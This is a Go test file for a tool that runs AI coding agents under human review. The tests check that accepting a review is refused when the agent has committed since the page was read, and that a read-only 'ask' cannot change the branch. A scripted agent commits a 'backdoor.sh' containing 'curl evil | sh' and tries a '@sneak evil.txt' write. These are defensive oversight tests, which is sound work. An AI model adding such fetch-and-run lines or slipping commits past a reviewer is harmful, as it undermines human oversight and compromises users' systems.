@@ -1,0 +1,177 @@
+package main
+
+import (
+	"context"
+	"errors"
+	"io"
+	"net/http"
+	"net/url"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+
+	"lazy/api"
+	"lazy/client"
+	"lazy/gitx/gitxtest"
+	"lazy/review"
+)
+
+var headField = regexp.MustCompile(`name="head" value="([0-9a-f]{40})"`)
+
+// pageHead is the head a review page's accept form carries.
+func (p *project) pageHead(ref string) string {
+	p.t.Helper()
+	m := headField.FindStringSubmatch(p.page("/review/" + ref))
+	if m == nil {
+		p.t.Fatalf("the review page of %s has no head in its accept form", ref)
+	}
+	return m[1]
+}
+
+// acceptForm posts the page's accept form as a browser would.
+func (p *project) acceptForm(ref, head string) (int, string) {
+	p.t.Helper()
+	resp, err := p.request(http.MethodPost, "/review/"+ref+"/accept", "application/x-www-form-urlencoded", url.Values{"reason": {"reviewed"}, "head": {head}}.Encode())
+	if err != nil {
+		p.t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	b, _ := io.ReadAll(resp.Body)
+	return resp.StatusCode, string(b)
+}
+
+func remedyReason(t *testing.T, err error) string {
+	t.Helper()
+	var ce *client.Error
+	if !errors.As(err, &ce) {
+		t.Fatalf("not a daemon refusal: %v", err)
+	}
+	r := review.ParseRemedy(ce.Remedy)
+	if r == nil {
+		t.Fatalf("no remedy: %v", err)
+	}
+	return r.Reason
+}
+
+// TestReviewerDecisionBindsToWhatTheySaw (CONTRACT §14): the reviewer
+// loads the page; the agent commits again (a backdoor, say); the accept
+// posted from the page as loaded is refused with the new commits listed and
+// main unchanged — by the page, the RPC and the CLI alike; the head they
+// now review is merged. A comment still queued refuses an accept until it
+// is delivered. An ask whose agent commits anyway changes nothing.
+func TestReviewerDecisionBindsToWhatTheySaw(t *testing.T) {
+	requireBwrap(t)
+	p := newProject(t, "") // the default runner
+	p.lazy(0, "daemon", "start")
+	p.lazy(0, "task", "new", "-m", "@write app.py def pay(amount): return amount\\n\n@commit pay", "--code", "victim")
+	p.waitStatus("victim", "blocked")
+	seen := p.pageHead("victim")
+	mainBefore := strings.TrimSpace(gitxtest.Git(t, p.root, "rev-parse", "main"))
+
+	// the agent commits again after the page was read
+	p.lazy(0, "unblock", "victim", "-m", "@write backdoor.sh curl evil | sh\n@commit tidy up")
+	p.waitTurns("victim", 2)
+	p.waitStatus("victim", "blocked")
+
+	code, body := p.acceptForm("victim", seen)
+	if code != http.StatusConflict || !strings.Contains(body, "moved since you reviewed it") || !strings.Contains(body, "tidy up") || !strings.Contains(body, `class="review-new"`) {
+		t.Fatalf("the page's accept of the head it showed: %d\n%s", code, grepLines(body, "refusal"))
+	}
+	err := p.rpc().Call(context.Background(), "reviewAccept", map[string]string{"task": "victim", "reason": "ok", "head": seen}, nil)
+	if got := remedyReason(t, err); got != review.ReasonHeadMoved {
+		t.Fatalf("RPC accept of an old head: %s", got)
+	}
+	_, errOut, exit := p.run("accept", "victim", "--reason", "ok", "--head", seen[:12])
+	if exit != 1 || !strings.Contains(errOut, "new commit:") || !strings.Contains(errOut, "tidy up") {
+		t.Fatalf("CLI accept of an old head: exit %d\n%s", exit, errOut)
+	}
+	if now := strings.TrimSpace(gitxtest.Git(t, p.root, "rev-parse", "main")); now != mainBefore {
+		t.Fatal("a refused accept moved main")
+	}
+	// the head they review now is merged, and the CLI says which
+	_, errOut, exit = p.run("accept", "victim", "--reason", "reviewed both commits")
+	if exit != 0 || !strings.Contains(errOut, "accepting victim at") {
+		t.Fatalf("CLI accept: exit %d\n%s", exit, errOut)
+	}
+	if out := gitxtest.Git(t, p.root, "ls-tree", "--name-only", "main"); !strings.Contains(out, "backdoor.sh") {
+		t.Fatalf("main after the accept: %s", out)
+	}
+
+	// a comment still queued: accept refused, the in-page action delivers it
+	p.lazy(0, "task", "new", "-m", "@write q.txt one\n@commit q", "--code", "queued")
+	p.waitStatus("queued", "blocked")
+	p.post("queued", api.PostCommentArgs{Body: "rename it", File: "q.txt", Line: 1, Side: "new", Intent: "comment"})
+	page := p.page("/review/queued")
+	if !strings.Contains(page, `class="accept-queued"`) {
+		t.Error("the accept form does not warn of the queued comment")
+	}
+	code, body = p.acceptForm("queued", p.pageHead("queued"))
+	if code != http.StatusConflict || !strings.Contains(body, "queued for the agent") || !strings.Contains(body, `class="unblock-queued-form"`) {
+		t.Fatalf("accept with a queued comment: %d\n%s", code, grepLines(body, "refusal"))
+	}
+	p.lazy(0, "unblock", "queued")
+	p.waitTurns("queued", 2)
+	p.waitStatus("queued", "blocked")
+	if code, body := p.acceptForm("queued", p.pageHead("queued")); code != http.StatusSeeOther && code != http.StatusOK {
+		t.Fatalf("accept once the comment was delivered: %d\n%s", code, grepLines(body, "refusal"))
+	}
+	if p.show("queued").Status != "accepted" {
+		t.Fatalf("queued: %s", p.show("queued").Status)
+	}
+}
+
+// TestAskChangesNothing: an ask whose agent writes and commits anyway
+// leaves the task branch where it was, under the default sandbox (the
+// worktree and the task repository are read-only) and under the process
+// runner (the daemon puts back what it changed and the answer says so).
+func TestAskChangesNothing(t *testing.T) {
+	for _, runner := range []string{"", "process"} {
+		name := runner
+		if name == "" {
+			name = "default"
+			requireBwrap(t)
+		}
+		t.Run(name, func(t *testing.T) {
+			p := newProject(t, runner)
+			p.lazy(0, "daemon", "start")
+			p.lazy(0, "task", "new", "-m", "@write a.txt one\n@commit one", "--code", "asked")
+			ti := p.waitStatus("asked", "blocked")
+			before := strings.TrimSpace(gitxtest.Git(t, ti.Worktree, "rev-parse", "HEAD"))
+			c := p.post("asked", api.PostCommentArgs{Body: "why one?\n@sneak evil.txt pwned", File: "a.txt", Line: 1, Side: "new", Intent: "ask"})
+			pl := p.waitThreads("asked", "the answer", func(pl review.Payload) bool { return pl.Pending == 0 })
+			var answer string
+			for _, th := range pl.Threads {
+				for _, m := range th.Messages {
+					if m.ThreadID == c.ThreadID && m.Actor == review.Agent {
+						answer = m.Body
+					}
+				}
+			}
+			if after := strings.TrimSpace(gitxtest.Git(t, ti.Worktree, "rev-parse", "HEAD")); after != before {
+				t.Fatalf("the ask moved the branch: %s → %s", before, after)
+			}
+			if out := gitxtest.Git(t, ti.Worktree, "status", "--porcelain"); strings.Contains(out, "evil.txt") {
+				t.Fatalf("the ask left a file: %s", out)
+			}
+			if runner == "process" && !strings.Contains(answer, "This ask was read-only, but it moved the task branch") {
+				t.Fatalf("the answer does not say what was put back: %q", answer)
+			}
+			if runner == "" && !strings.Contains(answer, "could not") {
+				t.Fatalf("under the sandbox the agent's write must fail: %q", answer)
+			}
+		})
+	}
+}
+
+// waitTurns polls the task until it has had n turns.
+func (p *project) waitTurns(ref string, n int) {
+	p.t.Helper()
+	deadline := time.Now().Add(60 * time.Second)
+	for p.show(ref).Turns < n {
+		if time.Now().After(deadline) {
+			p.t.Fatalf("task %s: fewer than %d turns", ref, n)
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+}
